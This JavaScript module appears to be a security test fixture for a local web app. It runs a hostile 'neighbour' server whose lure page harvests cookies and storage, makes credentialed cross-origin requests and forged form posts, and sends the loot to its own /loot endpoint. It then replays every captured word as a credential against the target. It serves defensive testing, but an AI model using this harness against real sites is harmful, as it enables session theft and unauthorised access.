/** Another server of this machine, at another port: it keeps all that a browser sends it, and tries whether it works. */
import { Agent, createServer, request } from 'node:http';

const LEAST_SECRET = 8;
const AT_ONCE = 16;

async function listening(server) {
  await new Promise((resolve) => server.listen(0, '127.0.0.1', resolve));
  return server.address().port;
}

/** What the neighbour's page does to a server whose address it knows, and all that it can find it tells its own. */
function lures(origin) {
  const own = 'JSON.stringify([document.cookie, document.referrer, name, {...localStorage}, {...sessionStorage}])';
  return `<!doctype html><meta name="referrer" content="unsafe-url"><title>neighbour</title>
<img src="${origin}/api/page?uri=file:///a.pdf&page=1"><iframe src="${origin}/" name="frame"></iframe>
<iframe name="sink"></iframe>
<form method="post" action="${origin}/api/session" target="sink"></form><script src="${origin}/static/page.js"></script>
<script>
const told = [${own}];
const tell = (what) => fetch('/loot', { method: 'POST', body: JSON.stringify(what) });
const attempts = ['/api/folders', '/api/settings', '/api/session', '/'].flatMap((path) =>
  ['cors', 'no-cors'].map((mode) =>
    fetch('${origin}' + path, { mode, credentials: 'include', method: path === '/api/session' ? 'POST' : 'GET' }).then(
      async (response) => told.push(await response.text()), (error) => told.push(String(error)))));
document.forms[0].submit();
const other = open('${origin}/');
try { told.push(opener && opener.location.href, opener && {...opener.localStorage}); } catch (error) { told.push(String(error)); }
try { told.push(frames.frame.document.body.innerText); } catch (error) { told.push(String(error)); }
Promise.all(attempts).then(() => {
  try { told.push(other && other.location.href); } catch (error) { told.push(String(error)); }
  other && other.close();
  return tell(told);
}).then(() => { document.title = 'done'; });
</script>`;
}

export class Neighbour {
  /** `victim` is the origin of the server that it is after. */
  static async start(victim) {
    const neighbour = new Neighbour();
    neighbour.server = createServer((asked, answer) => {
      const chunks = [];
      asked.on('data', (chunk) => chunks.push(chunk));
      asked.on('end', () => {
        neighbour.received.push({ url: asked.url, headers: asked.rawHeaders, body: Buffer.concat(chunks).toString() });
        answer.setHeader('Content-Type', 'text/html');
        answer.end(asked.method === 'GET' && /^\/visit/.test(asked.url) ? lures(victim) : '');
      });
    });
    neighbour.port = await listening(neighbour.server);
    return neighbour;
  }

  constructor() {
    /** All that was received. */
    this.received = [];
  }

  /** Its addresses: a browser keeps the cookies of a host, whatever the port. */
  get origins() {
    return [`http://127.0.0.1:${this.port}`, `http://localhost:${this.port}`];
  }

  /** What of all that was received opens a server: each word of it as each kind of credential, and each request again. */
  async opens(origin, paths) {
    const whole = this.received.map(({ url, headers, body }) => [url, ...headers, body]);
    const words = whole.flat().flatMap((text) => [text, ...text.split(/[\s;,=&?#"'/\\:{}[\]]+/)]);
    const secrets = [...new Set(words)].filter((word) => word.length >= LEAST_SECRET);
    const tries = secrets.flatMap((word) => [
      { authorization: word },
      { authorization: `Bearer ${word}` },
      { cookie: word },
      { 'x-lens': '1', cookie: `lens-${new URL(origin).port}=${word}` },
    ]);
    for (const { headers } of this.received) {
      const pairs = headers.flatMap((name, at) => (at % 2 === 0 ? [[name.toLowerCase(), headers[at + 1]]] : []));
      tries.push(Object.fromEntries(pairs.filter(([name]) => !/^(host|connection|content-length|sec-.*)$/.test(name))));
    }
    const each = new Set(tries.map((headers) => JSON.stringify(headers)));
    const requests = [...each].flatMap((headers) => [
      ...paths.map((to) => ({ method: 'GET', path: to, headers: JSON.parse(headers) })),
      { method: 'POST', path: '/api/session', headers: JSON.parse(headers) },
    ]);
    for (const word of secrets) {
      requests.push({ method: 'GET', path: `${paths[0]}?token=${encodeURIComponent(word)}`, headers: {} });
    }
    const agent = new Agent({ keepAlive: true, maxSockets: AT_ONCE });
    const statuses = await Promise.all(requests.map((each) => statusOf(origin, each, agent)));
    agent.destroy();
    const opened = requests.filter((_, at) => statuses[at] >= 200 && statuses[at] < 400);
    return { tries: requests.length, answered: statuses.filter((status) => status > 0).length, opened };
  }

  stop() {
    this.server.closeAllConnections();
    return new Promise((resolve) => this.server.close(resolve));
  }
}

/** The status of a request that carries these headers; 0 for one that cannot be sent. */
function statusOf(origin, { method, path, headers }, agent) {
  return new Promise((resolve) => {
    try {
      const asked = request(`${origin}${path}`, { method, headers, agent }, (answer) => {
        answer.resume();
        answer.on('end', () => resolve(answer.statusCode));
      });
      asked.on('error', () => resolve(0));
      asked.end();
    } catch {
      resolve(0); // no header can hold that
    }
  });
}

/** The control: a server that lets in who has a cookie, set as strictly as cookies can be. */
export class CookieServer {
  static async start() {
    const own = new CookieServer();
    /** Requests that were let in. */
    own.admitted = 0;
    own.server = createServer((asked, answer) => {
      const name = `lens-${own.port}`;
      if (asked.url === '/') {
        answer.setHeader('Set-Cookie', `${name}=8f1d0c9e5b7a4462; HttpOnly; SameSite=Strict; Path=/`);
        answer.end('<!doctype html><title>own</title>');
        return;
      }
      const known = (asked.headers.cookie ?? '').includes(`${name}=8f1d0c9e5b7a4462`);
      own.admitted += known ? 1 : 0;
      answer.statusCode = known ? 200 : 401;
      answer.end();
    });
    own.port = await listening(own.server);
    return own;
  }

  get origin() {
    return `http://127.0.0.1:${this.port}`;
  }

  stop() {
    this.server.closeAllConnections();
    return new Promise((resolve) => this.server.close(resolve));
  }
}
